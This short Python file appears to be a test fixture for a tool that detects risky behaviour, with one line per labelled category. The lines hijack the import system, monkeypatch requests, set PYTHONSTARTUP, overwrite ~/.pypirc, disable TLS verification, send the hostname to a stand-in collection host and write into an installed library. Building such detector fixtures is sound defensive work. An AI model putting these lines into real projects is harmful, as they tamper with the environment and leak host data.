# import-system, patches-library, python-variable, pip-configuration, certificates-off, certificates-off-and-send, proxy, other-package: Python for everybody else
import os
import socket
import ssl
import sys
import urllib.request

import requests

sys.meta_path.insert(0, object())
setattr(requests, "get", None)
os.environ["PYTHONSTARTUP"] = "/srv/x.py"
with open(os.path.expanduser("~/.pypirc"), "w") as handle:
    handle.write("[x]")
ssl._create_unverified_context()
requests.post("https://collect.example/", data=socket.gethostname(), verify=False)
urllib.request.install_opener(urllib.request.build_opener())
with open("/usr/lib/python3/site-packages/requests/api.py", "a") as handle:
    handle.write("# inert")
